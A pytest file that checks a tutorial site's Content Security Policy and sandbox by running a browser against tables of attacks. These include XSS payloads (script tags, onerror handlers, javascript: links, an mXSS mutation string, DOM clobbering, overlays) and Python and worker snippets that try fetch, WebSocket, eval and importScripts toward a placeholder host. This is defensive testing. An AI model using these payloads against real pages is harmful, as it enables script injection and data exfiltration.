"""What a reader's code, or a stranger's, cannot do in a page: run script in its origin, or ask another server.

`tests/site/attack.mjs` tries each attack of these tables in the built site, this file judges.
"""

import base64
import hashlib
import importlib
import json
import re

import pytest

from tests.test_site import browsed, built_site

# What a cell displays. Each does its harm in a page that has no policy and puts the HTML in as it is.
HTML = {
    "script": "<script>reached()</script>",
    "script from elsewhere": "<script src='ELSEWHERE/x.js'></script>",
    "script that says it draws": "<div id='qt-12345678-1'></div>"
    "<script data-draws='player'>reached();(0)(\"qt-12345678-1\",{});</script>",
    "onerror": "<img src=x onerror='reached()'>",
    "image": "<img src='ELSEWHERE/x.png'>",
    "srcset": "<img srcset='ELSEWHERE/x.png 1x'>",
    "svg onload": "<svg onload='reached()'></svg>",
    "script in svg": "<svg><script>reached()</script></svg>",
    "image in svg": "<svg><image href='ELSEWHERE/x.png' width='9' height='9'/></svg>",
    "javascript address": "<a href='javascript:reached()'>see</a>",
    "javascript address with a tab": "<a href='java&#9;script:reached()'>see</a>",
    "javascript address in svg": "<svg><a xlink:href='javascript:reached()'><text y='20'>see</text></a></svg>",
    "link to elsewhere": "<a href='ELSEWHERE/x.html' style='display: block; height: 99px'>see</a>",
    "foreignObject": "<svg><foreignObject width='99' height='99'><img src=x onerror='reached()'></foreignObject></svg>",
    "animated address": "<svg><a><animate attributeName='href' values='javascript:reached()'/><text y='20'>see</text></a></svg>",
    "srcdoc": "<iframe srcdoc='<script>parent.reached()</script>'></iframe>",
    "frame": "<iframe src='ELSEWHERE/x.html'></iframe>",
    "refresh": "<meta http-equiv='refresh' content='0;url=ELSEWHERE/x.html'>",
    "form": "<form action='ELSEWHERE/x'><button>send</button></form>",
    "formaction": "<form><button formaction='javascript:reached()'>send</button></form>",
    "style that imports": "<style>@import 'ELSEWHERE/x.css';</style>",
    "style that reads": "<style>html:has(body) { background: url(ELSEWHERE/x.png) }</style>",
    "style of an element": "<p style='background: url(ELSEWHERE/x.png)'>text</p>",
    "style sheet": "<link rel='stylesheet' href='ELSEWHERE/x.css'>",
    "object": "<object data='ELSEWHERE/x.html'></object>",
    "embed": "<embed src='ELSEWHERE/x.html'>",
    "poster": "<video poster='ELSEWHERE/x.png'></video>",
    "sound": "<audio src='ELSEWHERE/x.wav' preload='auto'></audio>",
    "focus": "<input autofocus onfocus='reached()'>",
    "toggle": "<details ontoggle='reached()'><summary>more</summary></details>",
    "base": "<base href='ELSEWHERE/'><img src='x.png'>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=reached()&gt;'>"
    "</table></mtext></math><img src=x onerror='reached()'>",
    "names of the page": "<img name='quackCells'><form id='quackFigures'></form><a id='qt-popover-title'>"
    "</a><input id='search-input' onfocus='reached()'><p id='main-content'></p>",
    "over the page": "<div style='position: fixed; inset: 0; z-index: 99999' onmouseover='reached()' onclick='reached()'>"
    "<button>yes</button></div>",
    "tooltip": "<button data-bs-toggle='tooltip' data-bs-html='true' title='<img src=ELSEWHERE/x.png>'>tip</button>"
    "<img src='ELSEWHERE/y.png'>",
}

# A cell's source, and what it shows: that it was refused, and not that it is written wrongly.
MISSING = "AttributeError: "
PATCHED = """
import quack_tutorial.figures.player as player
player.Player._repr_html_ = lambda self: "<img src=x onerror='reached()'><script>reached()</script>patched"
player.Player.__new__(player.Player)
"""
PATCHED_SCRIPT = """
import quack_tutorial.figures.player as player
player.function_in = lambda name: "(function () { reached(); })"
class Attack:
    def _repr_html_(self):
        none = dict.fromkeys(("controls", "caption", "picture", "key", "origin"), "")
        return player.page(title="patched", width=9, script="player.js", data={}, **none)

Attack()
"""
FORGED = """
import js
from pyodide.ffi import to_js
def say(**words):
    js.postMessage(to_js(words, dict_converter=js.Object.fromEntries))
for kind in ("html", "text", "note", "error", "chart", "cut", "other"):
    say(cell=1, kind=kind, text="<img src=x onerror='reached()'><script>reached()</script>")
say(stage="<img src=x onerror='reached()'>")
say(cell=1, kind="lines", text='{"1": {"1": [["reads", "<img src=x onerror=reached()>"]]}}')
say(reached=True, eval="reached()")
"said"
"""
PYTHON = {
    "a patched figure": (PATCHED, "patched"),
    "a patched script": (PATCHED_SCRIPT, "patched"),
    "forged messages": (FORGED, "said"),
    "fetch": ("import js\njs.fetch('ELSEWHERE/x')", MISSING),
    "XMLHttpRequest": ("import js\njs.XMLHttpRequest.new()", MISSING),
    "WebSocket": ("import js\njs.WebSocket.new('ELSEWHERE/x')", MISSING),
    "EventSource": ("import js\njs.EventSource.new('ELSEWHERE/x')", MISSING),
    "WebTransport": ("import js\njs.WebTransport.new('ELSEWHERE/x')", MISSING),
    "importScripts": ("import js\njs.importScripts('ELSEWHERE/x.js')", MISSING),
    "sendBeacon": ("import js\njs.navigator.sendBeacon('ELSEWHERE/x')", MISSING),
    "another worker": ("import js\njs.Worker.new('/_static/run/worker.js')", MISSING),
    "kept copies": ("import js\njs.caches.open('x')", MISSING),
    "a database": ("import js\njs.indexedDB.open('x')", MISSING),
    "files": ("import js\njs.navigator.storage.getDirectory()", MISSING),
    "a file system": ("import js\njs.self.webkitRequestFileSystemSync(0, 9)", MISSING),
    "other tabs": ("import js\njs.BroadcastChannel.new('x')", MISSING),
    "the page": ("import js\njs.parent.document", MISSING),
    "what the browser keeps": ("import js\njs.localStorage.setItem('x', '1')", MISSING),
    "a window": ("import js\njs.open('ELSEWHERE/x')", MISSING),
    "eval": ("import js\njs.eval('import(\"ELSEWHERE/x.js\")')", "EvalError|unsafe-eval"),
    "Function": ("import js\njs.Function.new('import(\"ELSEWHERE/x.js\")')()", "EvalError|unsafe-eval"),
    "run_js": ("from pyodide.code import run_js\nrun_js('import(\"ELSEWHERE/x.js\")')", "EvalError|unsafe-eval"),
    "a text that a timer runs": ("import js\njs.setTimeout('import(\"ELSEWHERE/x.js\")', 0)\n'set'", "."),
    "a package from elsewhere": ("import pyodide_js\npyodide_js.loadPackage('ELSEWHERE/x.whl')\n'asked'", "."),
    "a file from elsewhere": ("from pyodide.http import open_url\nopen_url('ELSEWHERE/x')", "Error"),
    "a socket": ("import urllib.request\nurllib.request.urlopen('ELSEWHERE/x')", "Error"),
}

# Of a worker under the page's policy, from which nothing was taken away.
WORKER = {
    "fetch": "fetch('ELSEWHERE/x')",
    "fetch without an answer": "fetch('ELSEWHERE/x', { mode: 'no-cors' })",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'ELSEWHERE/x'); x.send()",
    "WebSocket": "new WebSocket('ELSEWHERE/x'.replace('http', 'ws'))",
    "EventSource": "new EventSource('ELSEWHERE/x')",
    "import": "import('ELSEWHERE/x.js')",
    "importScripts": "importScripts('ELSEWHERE/x.js')",
    "a worker from elsewhere": "new Worker('ELSEWHERE/x.js')",
    "a worker in the worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('ELSEWHERE/x')\"])))",
}


def test_no_attack_reaches_the_page_or_another_server(root, of_today):
    """What a cell displays, what its Python does, and a worker under the page's policy; all in one session of a page."""
    site = built_site(root, "runtime/manifest.json")
    html, python, worker = ({name: of[name] for name in of_today(of)} for of in (HTML, PYTHON, WORKER))
    attacks = {"html": html, "python": {name: source for name, (source, _) in python.items()}, "worker": worker}
    tried = browsed(root, "attack", site, json.dumps(attacks), timeout=600)
    harmless = [name for name, bare in tried["bare"].items() if not (bare["reached"] or bare["asked"] or bare["left"])]
    harmless += [name for name, bare in tried["bareWorker"].items() if not bare["asked"]]
    assert not harmless, "these attacks do no harm anywhere"
    for name, here in [*tried["html"].items(), *tried["python"].items()]:
        assert (here["reached"], here["asked"], here["left"]) == (0, 0, []), name
    for name, (_, refused) in python.items():
        assert re.search(refused, tried["python"][name]["text"]), (name, tried["python"][name]["text"])
    assert tried["worker"] == {name: {"asked": 0} for name in worker}
    assert [*tried["html"], *tried["python"], *tried["bare"]] == [*html, *python, *html]


# What the build writes ----------------------------------------------------------------------------------------------------

PAGE = """<html><head><link href="../_static/a.css?v=old" rel="stylesheet"><script src="../_static/run.js" defer></script>
<script>one()</script></head><body><button class="print"
 onclick="window.print()">Print</button><script type="application/json">{}</script>
<script data-draws="player">(function (id, data) {\nf("qt-0", data);\n})("qt-12345678-1",{"a":["(\\"qt-2\\",3);"]});</script>
</body></html>"""


@pytest.fixture
def safe(root, monkeypatch):
    pytest.importorskip("sphinx", reason="Sphinx is not installed, which builds the pages")
    monkeypatch.syspath_prepend(root / "book/extension")
    return importlib.import_module("safe")


def built(safe, folder, of_module):
    (folder / "_static/run").mkdir(parents=True)
    (folder / "book").mkdir()
    files = {"a.css": "a {}", "run.js": "import(`run/${name}.js`)"}
    files |= {"run/page.js": 'import "./kept.js";', "run/kept.js": of_module}
    for name, text in files.items():
        (folder / "_static" / name).write_text(text, "utf-8")
    (folder / "book/page.html").write_text(PAGE, "utf-8")
    safe.finish(folder)
    return (folder / "book/page.html").read_text("utf-8"), folder / "_static"


def test_a_page_lets_in_its_own_scripts_and_no_others(safe, tmp_path):
    page, _ = built(safe, tmp_path / "a", "")
    policy = re.search(r'policy.content = "([^"]*)";[^<]*</script>\s*</head>', page)[1]
    parts = {part.split()[0]: part.split()[1:] for part in policy.split(";")}
    its_own = f"'sha256-{base64.b64encode(hashlib.sha256(b'one()').digest()).decode()}'"
    assert sorted(parts["script-src"]) == sorted(["'self'", "'wasm-unsafe-eval'", its_own])
    assert parts["default-src"] == ["'self'"]
    assert parts["frame-src"] == parts["object-src"] == ["'none'"]
    assert "connect-src" not in parts  # that of default-src, which is the site
    assert ' data-click="window.print()"' in page and " onclick" not in page
    data = re.search(
        r'<script type="application/json" data-draws="player" data-of="qt-12345678-1">(.*?)</script>', page
    )
    assert json.loads(data[1]) == {"a": ['("qt-2",3);']}


def test_the_name_of_a_script_changes_with_each_that_it_loads(safe, tmp_path):
    pages = [built(safe, tmp_path / name, text) for name, text in (("a", "1"), ("b", "2"), ("c", "1"))]
    named = [re.findall(r'_static/([\w.]+\?v=\w{12})"', page) for page, _ in pages]
    assert named[0] == named[2] and [a == b for a, b in zip(named[0], named[1])] == [True, False]
    (version,) = re.findall(r'"\./kept\.js\?v=(\w{12})"', (pages[0][1] / "run/page.js").read_text("utf-8"))
    assert f"run/${{name}}.js?v={version}`" in (pages[0][1] / "run.js").read_text("utf-8")
